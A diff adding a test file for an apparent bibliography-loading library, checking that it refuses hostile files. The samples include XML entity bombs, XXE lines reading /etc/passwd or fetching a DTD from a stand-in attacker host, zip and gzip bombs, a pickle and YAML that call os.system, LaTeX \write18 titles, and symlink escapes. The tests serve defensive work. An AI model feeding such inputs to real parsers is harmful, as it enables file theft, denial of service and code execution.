@@ -1,0 +1,192 @@
+"Files made to do harm: bombs, loops, links, devices, and text that makes slow readers slow"
+import gzip
+import io
+import os
+import socket
+import sys
+import threading
+import time
+import tracemalloc
+import warnings
+import zipfile
+
+import openpyxl
+import pytest
+
+from paperlit import ledger, load
+from paperlit import sources
+from paperlit.citations import escape
+from paperlit.core import Notice, SourceError, papers_table
+from paperlit.export import to_html
+from paperlit.latex import latex, unlatex
+from paperlit.results import find_results
+from paperlit.sentences import tag_sentences, tldr
+from paperlit.systems import find_systems
+from paperlit.text import clean, links, sentences, tokens
+from paperlit.word import to_docx
+
+GOOD = 'TY  - JOUR\nTI  - Weighing trees\nER  - \n'
+
+
+def stream(data, name):
+    out = io.BytesIO(data if isinstance(data, bytes) else data.encode())
+    out.name = name
+    return out
+
+
+def refused(data, name, why, seconds=6):
+    "The file is refused in one sentence that says why, in little time"
+    start = time.process_time()
+    with pytest.raises(SourceError, match=why) as e: load(stream(data, name), progress=False)
+    assert '\n' not in str(e.value) and time.process_time() - start < seconds
+
+
+def workbook(more=b''):
+    first, out = io.BytesIO(), io.BytesIO()
+    book = openpyxl.Workbook()
+    for row in (['Title', 'Year'], ['=HYPERLINK("http://attacker.invalid")', 2001], ['On oaks', 2001]): book.active.append(row)
+    book.save(first)
+    with zipfile.ZipFile(first) as old, zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as new:
+        for n in old.namelist(): new.writestr(n, old.read(n).replace(b'</sheetData>', more + b'</sheetData>') if n.endswith('sheet1.xml') else old.read(n))
+    return out.getvalue()
+
+
+def zipped(**files):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
+        for name, data in files.items(): z.writestr(name.replace('__', '.'), data)
+    return out.getvalue()
+
+
+LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha">' + ''.join(f'<!ENTITY a{n} "{"&a;" * 10 if n == 0 else f"&a{n-1};" * 10}">' for n in range(12)) + ']>'
+ARTICLE = '<PubmedArticleSet><PubmedArticle><MedlineCitation><PMID>1</PMID><Article><ArticleTitle>{}</ArticleTitle></Article></MedlineCitation></PubmedArticle></PubmedArticleSet>'
+ODS = '<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:spreadsheet><table:table table:name="S">{}</table:table></office:spreadsheet></office:body></office:document-content>'
+ROW = '<table:table-row{}><table:table-cell office:value-type="string"><text:p>Title</text:p></table:table-cell></table:table-row>'
+
+
+def ods(body):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as z:
+        z.writestr('mimetype', 'application/vnd.oasis.opendocument.spreadsheet', zipfile.ZIP_STORED)
+        z.writestr('content.xml', ODS.format(body))
+    return out.getvalue()
+
+
+HARM = {
+    'entities that multiply': (LAUGHS + ARTICLE.format('&a11;'), 'a.xml', 'entities'), 'an entity of a file': ('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + ARTICLE.format('&x;'), 'a.xml', 'entities'),
+    'a parameter entity': ('<!DOCTYPE a [<!ENTITY % x SYSTEM "http://attacker.invalid/x.dtd"> %x;]>' + ARTICLE.format('x'), 'a.xml', 'entities'),
+    'zip that swells': (zipped(a__ris=b'a' * (300 << 20)), 'a.zip', 'unpacks to more'), 'gzip that swells': (gzip.compress(b'TY  - ' * (50 << 20), 1), 'a.gz', 'unpacks to more|no place to cut'),
+    'zip in a zip': (zipped(b__zip=zipped(a__ris=GOOD)), 'a.zip', 'archive in an archive'), 'JSON 100,000 deep': ('[' * 100_000 + ']' * 100_000, 'a.json', ''), 'JSON objects 100,000 deep': ('{"title":' * 100_000, 'a.json', ''),
+    'XML 100,000 deep': ('<PubmedArticleSet><PubmedArticle>' + '<a>' * 100_000 + '</a>' * 100_000 + '</PubmedArticle></PubmedArticleSet>', 'a.xml', ''), 'workbook that swells': (workbook(b'<row r="9">' + b'<c t="inlineStr"><is><t>a</t></is></c>' * 2_500_000 + b'</row>'), 'a.xlsx', 'far more'),
+    'OpenDocument rows': (ods(ROW.format('') + ROW.format(' table:number-rows-repeated="100000000"')), 'a.ods', 'more rows'), 'a PDF that is none': (b'%PDF-1.7\n' + b'1 0 obj<</Kids[1 0 R]/Type/Pages/Parent 1 0 R>>endobj\n' * 20 + b'trailer<</Root 1 0 R>>', 'a.pdf', ''),
+    'a pickle': (b'\x80\x04\x95\x1e\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x03cmd\x94\x85\x94R\x94.' + b'\0\1\2' * 50, 'a.pkl', ''), 'YAML that calls': ('cff-version: 1.2.0\ntitle: !!python/object/apply:os.system ["touch hit"]\n', 'CITATION.cff', 'YAML'),
+    'YAML that multiplies': ('cff-version: 1.2.0\na: &a [x,x,x,x,x,x]\n' + ''.join(f'b{n}: &b{n} [{",".join(["*" + (f"b{n-1}" if n else "a")] * 9)}]\n' for n in range(12)), 'CITATION.cff', ''),
+}
+
+
+@pytest.mark.parametrize('name', HARM)
+def test_harm_is_refused(name):
+    with warnings.catch_warnings():
+        warnings.simplefilter('ignore', Notice)
+        refused(*HARM[name])
+
+
+@pytest.mark.parametrize('more', [b'<row r="900000000"><c r="A900000000"><v>1</v></c></row>', b''.join(b'<row r="%d"><c r="XFD%d"><v>1</v></c></row>' % (i, i) for i in range(9, 4000))])
+def test_workbook_that_claims_billions_of_cells(more):
+    start = time.process_time()
+    papers = load(stream(workbook(more), 'a.xlsx'), progress=False)
+    assert 'On oaks' in set(papers['title']) and (ledger(papers)['action'] == 'rejected').any() and time.process_time() - start < 8
+
+
+def test_entities_cost_no_memory():
+    tracemalloc.start()
+    try: refused(LAUGHS + ARTICLE.format('&a11;'), 'a.xml', 'entities'); peak = tracemalloc.get_traced_memory()[1]
+    finally: tracemalloc.stop()
+    assert peak < 20 << 20
+
+
+@pytest.mark.parametrize('title', ['\\write18{touch hit}', '\\input{/etc/passwd}', '\\immediate\\write18{touch hit}'])
+def test_commands_of_latex_are_text(title, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    papers = load(stream(f'@article{{a, title={{Trees {title}}}, abstract={{We weigh {title} trees.}}}}', 'a.bib'), progress=False)
+    assert papers['title'].iloc[0].startswith('Trees') and 'root:' not in papers['abstract'].iloc[0] and not list(tmp_path.iterdir())
+
+
+@pytest.mark.skipif(sys.platform == 'win32', reason='Windows has no such files')
+def test_only_files_in_the_folder_are_opened(tmp_path):
+    folder, outside = tmp_path/'papers', tmp_path/'secret.ris'
+    folder.mkdir(); (tmp_path/'far').mkdir(); (tmp_path/'far'/'b.ris').write_text(GOOD)
+    outside.write_text(GOOD.replace('trees', 'secrets'))
+    (folder/'a\nb.ris').write_text(GOOD); (folder/'.. .ris').write_text(GOOD.replace('trees', 'leaves'))
+    (folder/'out.ris').symlink_to(outside); (folder/'up.ris').symlink_to('../secret.ris'); (folder/'in.ris').symlink_to(folder/'.. .ris'); (folder/'gone.ris').symlink_to('nothing'); (folder/'round').symlink_to(folder); (folder/'far').symlink_to(tmp_path/'far')
+    os.mkfifo(folder/'pipe.ris'); (folder/'null.ris').symlink_to('/dev/zero')
+    server = socket.socket(socket.AF_UNIX)
+    os.chdir(folder); server.bind('s.ris')
+    result = []
+    def read():
+        with warnings.catch_warnings(): warnings.simplefilter('ignore', Notice); result.append(load(folder, progress=False))
+    thread = threading.Thread(target=read, daemon=True)
+    thread.start(); thread.join(20); server.close(); os.chdir(tmp_path)
+    assert result, 'a pipe or a device was opened'
+    assert set(result[0]['title']) == {'Weighing trees', 'Weighing leaves'}
+    assert ledger(result[0]).query('action == "rejected"')['reason'].str.contains('outside of the folder').sum() == 2
+
+
+@pytest.mark.skipif(sys.platform == 'win32', reason='Windows has no such files')
+@pytest.mark.parametrize('path', ['/dev/zero', 'pipe'])
+def test_no_device_and_no_pipe_is_opened(tmp_path, path):
+    os.mkfifo(tmp_path/'pipe')
+    with pytest.raises(SourceError, match='no file'): load(tmp_path/path, progress=False)
+
+
+UNITS = dict(brace='{', closed='}', entry='@a{', tag='<a>', end='</a>', quote='"', apostrophe="'", back='\\', dollar='$', ris='TY  - ', ris_line='TY  - JOUR\n', space=' ', comma=',', semicolon=';', stop='.', stop_word='. A', cite='[@', cites='[@a; ', bracket='[', parenthesis='(', ampersand='&', entity='&amp;',
+    star='*', strong='**a', under='_', percent='%', line='\n', letter='a', capital='A', camel='Aa', digit='1', address='http://a', macro='\\a{', accent="\\'{", formula='$a_', combining='e\u0301', joiner='a\u200b', cdata='<![CDATA[', comment='<!--', doctype='<!DOCTYPE a [', number='&#x', object='{"a":', array='[[',
+    csv='a,"', doubled='""', mojibake='â€', curly='“', curly_cite='“b” [@a] ', pipe='| a ', picture='![](', link='[a](', initials='J. ', names='Roe, A., ', abbreviation='e.g. ', glued='Our-', glued_names='OurAb{n} ', words='outperforms ', acronym='(ABC) ', doi='10.1000/a)', bullet='- ', heading='# ', sup='<sup>')
+LONG = {'results': find_results, 'systems': find_systems, 'tldr': tldr, 'roles': tag_sentences}
+
+
+def paper(text): return papers_table([dict(title='Trees', abstract=text, source='a', record='L1')])
+
+
+def in_record(name):
+    "A reader fed with a record whose abstract is the text"
+    before, after = dict(ris=('TY  - JOUR\nAB  - ', '\nER  - \n'), bibtex=('@article{a, abstract={', '}}\n'), nbib=('PMID- 1\nAB  - ', '\n'), csv=('Title,Abstract\nA,', '\n'), jsonl=('{"title": "', '"}\n'), pubmed_xml=('<PubmedArticle><Abstract>', '</Abstract></PubmedArticle>'), listing=('On trees\n\n', '\n'))[name]
+    return lambda text: list(sources.FORMATS[name].read(before + text + after))
+
+
+STEPS = {'clean': clean, 'sentences': sentences, 'tokens': tokens, 'links': links, 'unlatex': unlatex, 'latex': latex, 'escape': escape, 'finish': lambda t: sources.finish(dict(title=t, abstract=t, doi=t, arxiv_id=t, language=t)), **{n: lambda t, f=f: f(paper(t)) for n, f in LONG.items()},
+    'html': lambda t: to_html(t, paper('a')), 'docx': lambda t: to_docx(t, paper('a'), {}, 'T'), **{f'read {n}': (lambda t, f=f: list(f.read(t))) for n, f in sources.FORMATS.items() if not f.binary}, **{f'{n} record': in_record(n) for n in ('ris', 'bibtex', 'nbib', 'csv', 'jsonl', 'pubmed_xml', 'listing')}}
+SIZE = 1024 if not os.environ.get('LONG') else 65_536
+SLOW = {*LONG, 'docx', 'html', 'finish', 'clean'} # Of these a third of the families, but with `LONG=1`
+
+
+def repeated(unit, size): return ''.join(unit.replace('{n}', str(n)) for n in range(size // len(unit) + 1))[:size]
+
+
+def cpu(step, text):
+    start = time.process_time()
+    try: step(text)
+    except (SourceError, RecursionError): pass
+    return time.process_time() - start
+
+
+def growth(step, unit, size):
+    "How many times longer 4 times the text takes, as the power of its length: 1 is linear, 2 quadratic. Short times are taken as linear"
+    longer = cpu(step, repeated(unit, 4 * size))
+    if longer < .15 * size / 4096: return 1, longer
+    import math
+    longer, short = min(longer, *(cpu(step, repeated(unit, 4 * size)) for _ in range(2))), min(cpu(step, repeated(unit, size)) for _ in range(3))
+    return math.log(longer / max(short, 1e-4), 4), longer
+
+
+@pytest.mark.parametrize('name', STEPS)
+def test_time_is_linear(name):
+    some = slice(None, None, 3 if name in SLOW and not os.environ.get('LONG') else 1)
+    found = {family: growth(STEPS[name], unit, SIZE) for family, unit in [*UNITS.items()][some]}
+    assert {f: (round(p, 2), round(t, 2)) for f, (p, t) in found.items() if p > 1.3 and t > .1} == {}
+
+
+def test_a_quadratic_step_is_seen(): assert growth(lambda t: [t[i:].count('zz') for i in range(len(t))], 'a', SIZE * 8)[0] > 1.3
+
+
+def test_there_are_enough_families(): assert len(UNITS) >= 30
